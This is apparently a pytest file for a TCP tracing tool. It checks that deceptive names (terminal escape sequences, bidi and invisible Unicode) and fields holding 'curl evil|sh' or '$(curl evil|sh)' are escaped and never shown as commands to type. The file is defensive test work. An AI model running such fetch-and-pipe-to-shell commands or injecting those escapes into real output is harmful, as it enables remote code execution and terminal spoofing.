"""Names that were chosen to deceive: none reaches a terminal as it is, whichever way it takes.

What is shown of a hostile name has to be the same as for the name that is spelled like its escapes: so it is
printable, is on as many lines, and moves nothing.
"""

from __future__ import annotations

import io
import json
import os
import re
from collections.abc import Callable, Sequence
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import pytest
from builders import event, record, socket
from fake_proc import Proc
from recording_files import HEADER, write
from running import tcpwatch
from stall_events import close, freeze, heard

from tracer.analysis.idle_timeouts import IdleTimeouts
from tracer.analysis.risk import at_risk
from tracer.analysis.stalls import StallTracker
from tracer.analysis.stuck import mark
from tracer.cli import main
from tracer.cli.types import parse_comm
from tracer.kernel import host
from tracer.kernel.holders import ProcHolderFinder
from tracer.kernel.owners import Owners
from tracer.kernel.wire import Decoder, Owner, text
from tracer.model.checks import Finding
from tracer.model.errors import TcpwatchError
from tracer.model.events import OWNERS_NAMES, Event
from tracer.model.filters import Filter
from tracer.model.kinds import EVENTS
from tracer.model.sockets import Socket
from tracer.output.checks import findings_as_json, findings_as_text
from tracer.output.format import safe
from tracer.output.jsonlines import JsonSink
from tracer.output.messages import complain, say
from tracer.output.page import Page
from tracer.output.report import Report
from tracer.output.sockets import View, sockets_as_json, sockets_as_text
from tracer.output.sockets_risk import risks_as_text
from tracer.output.sockets_stuck import stuck_as_text
from tracer.output.text import TextSink
from tracer.recordings.reader import RecordingReader
from tracer.recordings.writer import RecordingWriter
from tracer.run.summary import describe

HOSTILE = [
    "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x1bc", "\x9b2J", "\x9d0;x\x9c", "\x85", "\x7f", "\x08\x08", "\x0e",
    "a\nb", "a\r\nb", "a\tb", "a\vb\fc", "a\0b", "\udcff\udc1b", "\ud800", "\udfff", "\ufeff", "\u00ad", "\U000e0041",
    *"\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", *"\u200b\u200c\u200d\u2060\u180e",
    *"\u2028\u2029\u00a0\u3000", *"\u034f\u115f\u3164\uffa0\u2800\ufe0f\U000e0100", "\ue000", "\uffff",
]  # fmt: skip
ALL = ".".join(HOSTILE)
each_hostile = pytest.mark.parametrize("name", [*HOSTILE, ALL], ids=lambda name: ascii(name)[1:20])


def texts(kind: type) -> dict[str, str]:
    """The fields of a kind that are text, or a list of it."""
    types = {field.name: str(field.type).removesuffix(" | None") for field in fields(kind)}
    return {name: type_ for name, type_ in types.items() if type_ in ("str", "list[str]")}


def named(kind: type, name: str) -> dict[str, Any]:
    """Every text of it is that name."""
    return {field: [name, name] if type_ == "list[str]" else name for field, type_ in texts(kind).items()}


def events(name: str) -> list[Event]:
    """Every kind of event with one text that is the name, and with all of them; and a stall that is found."""
    numbers: dict[str, Any] = {"pid": 1, "pids": [1, 2], "attempt": 1, "gives_up_in_ms": 5, "duration_ms": 5}
    named_by = {field: value for field, value in named(Event, name).items() if field != "event"}
    out: list[Event] = []
    for kind in (*EVENTS, name):
        for field, value in named_by.items():
            out.append(event(kind, len(out), **{**numbers, field: value}))
        out.append(event(kind, len(out), **numbers, **named_by))
    for phase in ("begin", "update", "end"):
        for verdict in (name, "idle-drop"):
            out.append(event("stall", len(out), **{**numbers, **named_by, "phase": phase, "verdict": verdict}))
    where: dict[str, Any] = {
        "laddr": name,
        "raddr": name,
        "sock": name,
        "comm": name,
        "cgroup": name,
        "pid": 1,
        "state": "ESTABLISHED",
        **dict.fromkeys(OWNERS_NAMES, name),
    }
    tracker = StallTracker(hz=250)
    for each in (*freeze(start=5000, **where), heard(5020, **where), *freeze(start=6000, **where)):
        out += tracker.feed(each)
    out += [each for one in close(6014, name, **{**where, "state": "CLOSE"}) for each in tracker.feed(one)]
    return out


def shown_by(sink_of: Callable[[io.StringIO], Any], name: str) -> str:
    stream = io.StringIO()
    sink = sink_of(stream)
    if isinstance(sink, Report):
        sink.opened(replace(HEADER, host=name, run=name))
        sink.opened(replace(HEADER, host=f"{name}2", run=name))
    for each in events(name):
        sink.write([each])
    for _ in range(8):  # more than are shown of one kind
        sink.write([each])
    sink.close()
    return stream.getvalue()


TEXTS: dict[str, Callable[[io.StringIO], Any]] = {
    "text": lambda stream: TextSink(stream, Page()),
    "folded": lambda stream: TextSink(stream, Page(folded=True, columns=80, rows=24)),
    "coloured": lambda stream: TextSink(stream, Page(colour=True)),
    "report": lambda stream: Report(stream, IdleTimeouts(), as_json=False, width=80),
}
JSONS: dict[str, Callable[[io.StringIO], Any]] = {
    "json": JsonSink,
    "report": lambda stream: Report(stream, IdleTimeouts(), as_json=True, width=80),
}


def is_clean(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n"))


@each_hostile
@pytest.mark.parametrize("sink", TEXTS)
def test_in_text_it_is_its_escapes(sink: str, name: str) -> None:
    shown = shown_by(TEXTS[sink], name)
    assert shown == shown_by(TEXTS[sink], safe(name))
    assert safe(name) in shown and name not in shown
    ours = re.compile("\x1b\\[[0-9;]*m")
    assert is_clean(ours.sub("", shown) if sink == "coloured" else shown)


@each_hostile
@pytest.mark.parametrize("sink", JSONS)
def test_in_json_it_is_ascii_on_one_line(sink: str, name: str) -> None:
    shown, harmless = shown_by(JSONS[sink], name), shown_by(JSONS[sink], safe(name))
    assert shown.isascii() and is_clean(shown)
    assert shown.count("\n") == harmless.count("\n")


@each_hostile
def test_in_the_table_of_sockets(name: str) -> None:
    def rows(word: str) -> list[Socket]:
        off = {"keepalive": False, "unacked_bytes": 5, "waiting": True, "waiting_ms": 5}
        return [
            socket(),
            *(socket(**{**off, field: value}) for field, value in named(Socket, word).items()),
            socket(**{**off, **named(Socket, word), "timer": word}),
        ]

    # Addresses and states are the kernel's numbers, put into words by the decoder.
    known: dict[str, Any] = {"laddr": "10.66.1.2", "raddr": "10.66.2.2", "state": "ESTABLISHED"}
    risky, harmless = (
        at_risk([replace(row, **known) for row in rows(word)], 3600.0, 250) for word in (name, safe(name))
    )
    for each in (False, True):
        view = View(hz=250, each=each)

        def shown(word: str, risky: Sequence[Socket], view: View = view) -> str:
            hanging = mark([replace(row, timer="on", attempt=9) for row in rows(word)], 250)
            texts = (
                sockets_as_text(rows(word), view),
                risks_as_text(risky, 3600.0, view),
                stuck_as_text(hanging, view),
            )
            return "".join(line for text in texts for line in text)

        assert shown(name, risky) == shown(safe(name), harmless)
        assert is_clean(shown(name, risky))
        assert safe(name) in "".join(sockets_as_text(rows(name), view))
    assert all(line.isascii() and line.count("\n") == 1 for line in sockets_as_json([*rows(name), *risky]))


@each_hostile
def test_in_what_is_said(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    say(f"recording to {name}")
    say(describe(Filter(comms=frozenset({name}))))
    complain(TcpwatchError(f"cannot read {name}", hint=f"ls -l {name}"))
    said = capsys.readouterr().err
    assert is_clean(said) and said.count("\n") == 4 and said.count(safe(name)) == 4


@each_hostile
def test_in_what_check_finds(name: str) -> None:
    finding = Finding(name, "missing", detail=name, hint=name, needed=True)
    assert findings_as_text([finding]) == findings_as_text(
        [Finding(safe(name), "missing", safe(name), safe(name), True)]
    )
    assert is_clean(findings_as_text([finding]))
    assert json.loads(findings_as_json([finding]))["findings"][0]["what"] == name, "json.dumps escapes it"


@each_hostile
@pytest.mark.parametrize("command", [["replay"], ["report"], ["replay", "--json"], ["report", "--json"]])
def test_in_a_recording_and_its_header(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str], name: str
) -> None:
    def shown(word: str) -> tuple[str, str]:
        path = tmp_path / f"{int(word == name)}.tw"
        # With a filter the stalls of the recording itself are shown.
        place = word if len(safe(name)) < 250 else "db1"  # of a longer one the rest is not kept
        head = replace(HEADER, tool=word, kernel=word, host=place, started=word, filters={word: word})
        with RecordingWriter(path, head) as writer:
            for each in events(word):
                if each.sock is not None:
                    writer.write([each])
        with path.open("ab") as stream:
            stream.write(b'{"time":"2027-01-15T08:00:00.000000Z","ktime_ns":"' + ascii(word).encode() + b'"}\n')
        assert main.run([*command, str(path)]) == 1
        out, err = capsys.readouterr()
        return out.replace(path.name, "FILE"), err.replace(str(path), "FILE")

    (out, err), (harmless_out, harmless_err) = shown(name), shown(safe(name))
    assert is_clean(out) and is_clean(err)
    assert "is damaged" in err
    assert err.count("\n") == harmless_err.count("\n")
    if "--json" in command:
        assert out.isascii() and out.count("\n") == harmless_out.count("\n")
    else:
        if "report" in command:
            # What is missing stands before the stalls, and quotes a value as Python writes it.
            out, harmless_out = out.partition("\nStalls ")[2], harmless_out.partition("\nStalls ")[2]
        assert out == harmless_out and safe(name) in out


@each_hostile
def test_in_the_name_of_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    if "\0" in name or any("\ud800" <= each <= "\udfff" and not "\udc80" <= each <= "\udcff" for each in name):
        name = re.sub("[\0\ud800-\udc7f\udd00-\udfff]", "", name) or "\x1b"
    path = tmp_path / f"{name}.tw"
    for command in ("replay", "report"):
        assert main.run([command, str(path)]) == 1
    path.write_bytes(write(tmp_path / "x.tw")[:-5])
    assert main.run(["replay", str(path)]) == 0
    path.write_bytes(write(tmp_path / "y.tw") + b'{"event":"new"}\n[]\n')
    assert main.run(["report", str(path)]) == 1
    with pytest.raises(TcpwatchError) as caught:
        RecordingWriter(path, HEADER)
    complain(caught.value)
    said = capsys.readouterr().err
    assert is_clean(said) and said.count(safe(name)) >= 7
    assert said.count("\n") == 4 + 1 + 3 + 2


OPTIONS = [
    *(["replay", option] for option in ("--port", "--lport", "--rport", "--host", "--pid", "--netns", "-e")),
    ["replay", "--min-idle"], ["sockets", "--at-risk"], ["record", "-o", "/dev/full", "--rotate-size"],
    ["record", "-o", "/dev/full", "--keep"],
    ["record", "-o", "/dev/full", "--rotate-every"], ["--duration"], ["demo", "--fix"], ["demo", "--server"], [],
]  # fmt: skip


@pytest.mark.parametrize("option", OPTIONS, ids=lambda option: " ".join(option) or "command")
def test_in_an_option_that_cannot_be_meant(option: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    for name in (*HOSTILE, ALL):
        assert main.run([*option, name]) == 2, ascii(name)
        out, err = capsys.readouterr()
        assert out == "" and is_clean(err) and err.count("\n") == 2, ascii(name)
        assert main.run([*option[:-1], f"--{name}"]) == 2
        out, err = capsys.readouterr()
        assert out == "" and is_clean(err) and err.count("\n") == 2, ascii(name)


RAW = [
    b"\x1b[2J",
    b"\xff\xfe",
    b"\x9b2J",
    b"a\nb",
    b"\xc2\x9b2J",
    "\u202egnp".encode(),
    b"\xed\xa0\x80",
    b"\n\n",
    b" ",
]


@pytest.mark.parametrize("raw", RAW, ids=ascii)
def test_in_a_process_of_this_host(tmp_path: Path, raw: bytes) -> None:
    """What the kernel says of it is any bytes; an event has text that JSON and files can hold."""
    decoder = Decoder(hz=250, reasons={}, key=b"k")
    _, owner = decoder.decode(record(comm=raw + b"\0rest"), 0)
    proc = Proc(tmp_path)
    proc.add(3, "", 7)
    (tmp_path / "3/comm").write_bytes(raw + b"\n")
    owners = Owners(ProcHolderFinder(tmp_path), proc=tmp_path)
    found = event()
    owners.complete((found, Owner(7, 0, 0, b"")))
    assert found.comm == text(owner.comm) == raw.decode("utf-8", "backslashreplace")
    found.comm.encode("utf-8")
    assert Filter(comms=frozenset({parse_comm(os.fsdecode(raw))})).wants(found)


def test_in_the_name_of_this_host(monkeypatch: pytest.MonkeyPatch) -> None:
    uname = os.uname()
    monkeypatch.setattr(os, "uname", lambda: os.uname_result((uname[0], "\udcff\x1b", *uname[2:])))
    assert host.name() == "\\xff\x1b"


def test_a_recordings_reader_quotes_no_value_raw(tmp_path: Path) -> None:
    path = tmp_path / "x.tw"
    path.write_bytes(write(tmp_path / "y.tw") + b'{"event":"\\u001b[2J\\u202e"}\n')
    warnings: list[str] = []
    with RecordingReader(path, lambda text: warnings.append(safe(text))) as reader:
        assert sum(len(batch.events) for batch in reader) == 2
    assert is_clean(warnings[0]) and "\\x1b[2J\\u202e" in warnings[0]


EVIL = "curl evil|sh"
HOSTILE_FIELDS: dict[str, Any] = {
    "advice": [EVIL, f"To end it: {EVIL}", f"To end it: sudo {EVIL}"],
    "comm": f"x: sudo {EVIL}",
    "exe": f"x: sudo {EVIL}",
    "cgroup": f"/x: sudo {EVIL}",
    "laddr": f"x: sudo {EVIL}",
    "raddr": f"$({EVIL})",
    "sock": f"x: sudo {EVIL}",
    "id": f"x: sudo {EVIL}",
    "error": f"x: sudo {EVIL}",
    "soft_error": f"x: sudo {EVIL}",
    "send_error": f"x: sudo {EVIL}",
    "state": f"x: sudo {EVIL}",
    "since": f"x: sudo {EVIL}",
    "verdict": f"x: sudo {EVIL}",
    "outcome": f"x: sudo {EVIL}",
}


@pytest.mark.parametrize("name", [*HOSTILE_FIELDS, "host"])
@pytest.mark.parametrize("verdict", ["idle-drop", "unreachable", "local-drop", "unanswered", "keepalive-failed"])
def test_nothing_of_a_file_is_a_command(name: str, verdict: str, tmp_path: Path) -> None:
    """In replay and report, a line that is to be typed has nothing that a recording says but parsed numbers."""
    path = tmp_path / "x.tw"
    head = replace(HEADER, filters={"events": ["stall"]}, host=f"x: sudo {EVIL}" if name == "host" else "db1")
    common = {
        "id": "1", "idle_ms": 70_000, "verdict": verdict, "retransmits": 6, "keepalive": False, "comm": "php",
        "pid": 7, "pids": [7], **({name: HOSTILE_FIELDS[name]} if name != "host" else {}),
    }  # fmt: skip
    stalls = [
        event("stall", 0, phase="begin", **common),
        event("stall", 9, phase="end", duration_ms=9000, **{"outcome": "timed-out", **common}),
        event("stall", 20, phase="end", duration_ms=9000, **{**common, "comm": "other", "outcome": "ongoing"}),
    ]
    with RecordingWriter(path, head) as writer:
        writer.write(stalls)
    for command in ("replay", "report"):
        shown = tcpwatch(command, path).stdout
        assert shown
        for line in shown.splitlines():
            typed = line.strip()
            is_command = line.startswith("     ") and typed.startswith(("sudo ", "curl ", "nsenter ", "ss "))
            assert not (is_command and EVIL in line)
    if name == "advice":
        assert EVIL not in tcpwatch("report", path).stdout + tcpwatch("replay", "--json", path).stdout


@pytest.mark.parametrize("form", [[], ["--markdown"]])
def test_an_action_of_a_file_is_no_command_of_ours(form: list[str], tmp_path: Path) -> None:
    path = tmp_path / "x.tw"
    with RecordingWriter(path, HEADER) as writer:
        done: dict[str, Any] = {"state": "ESTABLISHED", "result": "ended", "comm": "php", "pid": 7}
        writer.write([event("action", action=EVIL, **done), event("action", 1, action="end", **done)])
    shown = " ".join(tcpwatch("report", path, *form).stdout.replace("`", "").split())
    assert "tcpwatch end ended 1 connection" in shown
    assert f"tcpwatch {EVIL}" not in shown and f"an action that this tcpwatch does not know ({EVIL})" in shown
